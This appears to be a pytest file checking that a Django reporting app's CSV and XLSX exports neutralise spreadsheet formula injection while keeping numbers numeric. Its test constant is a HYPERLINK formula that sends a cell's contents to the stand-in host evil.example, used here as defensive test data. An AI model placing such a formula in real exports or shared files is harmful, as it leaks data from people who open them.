"""Typed or imported text never runs as a spreadsheet formula (issue 13, item 7): the one XLSX
writer writes every string as a text cell, the one CSV writer (tpps.csvfile) puts a quote before a
leading =, +, -, @, tab or CR of text, and numbers stay numbers in both."""

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.factories import kelurahan
from tests.laporan.helpers import make_anak, make_pengukuran, refresh_figures
from tpps import csvfile, xlsx

ROOT = Path(__file__).resolve().parents[2]
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("value, written", [
    (EVIL, "'" + EVIL), ("+1+1", "'+1+1"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"),
    ("Aisyah", "Aisyah"), ("", ""), ("a=1", "a=1"),
    # numbers, as numbers or as the text of a number, stay plain
    (-2.31, -2.31), (Decimal("-2.31"), Decimal("-2.31")), (-5, -5), ("-2.31", "-2.31"), ("-2,31", "-2,31"),
    ("+62", "+62"), ("-1.5e-3", "-1.5e-3"), (None, None),
])
def test_safe_cell(value, written):
    assert csvfile.safe_cell(value) == written


def test_csv_writer_neutralises_text_and_keeps_numbers():
    out = io.StringIO()
    csvfile.writer(out, lineterminator="\n").writerows([["Nama", "ZS"], [EVIL, -2.31], ["-1+2", "-0.5"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["Nama", "ZS"], ["'" + EVIL, "-2.31"], ["'-1+2", "-0.5"]]


def test_xlsx_writes_every_string_as_text_headers_and_preamble_too(tmp_path):
    path = tmp_path / "x.xlsx"
    xlsx.write_table(path, [EVIL, "ZS"], [[EVIL, -2.31], ["@SUM(A1)", Decimal("-1.5")]], preamble=(EVIL, "=1+1"))
    sheet = load_workbook(path).active
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type in ("s", "n") for c in cells)  # no "f" (formula)
    assert sheet["A4"].value == EVIL and sheet["A5"].value == EVIL and sheet["B5"].value == -2.31


@pytest.mark.django_db
def test_children_export_of_laporan_keeps_an_imported_formula_as_text(client_for, users):
    betet = kelurahan("Betet")
    child = make_anak(betet, datetime.date(2024, 1, 5), nama=EVIL)
    make_pengukuran(child, datetime.date(2025, 3, 1), haz=-2.31)
    refresh_figures()
    client = client_for(users["admin"])
    params = {"tahun": 2025, "periode": "th"}
    response = client.get(reverse("laporan:ekspor_anak", args=[betet.pk, "xlsx"]), params)
    sheet = load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[4]]
    name, zscore = sheet.cell(5, 1), sheet.cell(5, header.index("ZS TB/U") + 1)
    assert (name.value, name.data_type) == (EVIL, "s")
    assert (zscore.value, zscore.data_type) == (-2.31, "n")

    response = client.get(reverse("laporan:ekspor_anak", args=[betet.pk, "csv"]), params)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + EVIL
    assert rows[1][rows[0].index("ZS TB/U")] == "-2.31"


def test_every_csv_goes_through_the_one_writer():
    found = [str(path.relative_to(ROOT)) for app in ("tpps", "balita", "konvergensi", "genting", "laporan")
             for path in sorted((ROOT / app).rglob("*.py"))
             if re.search(r"csv\.(writer|DictWriter)\(", path.read_text()) and path.name != "csvfile.py"]
    assert not found, "write CSV through tpps.csvfile.writer: " + ", ".join(found)
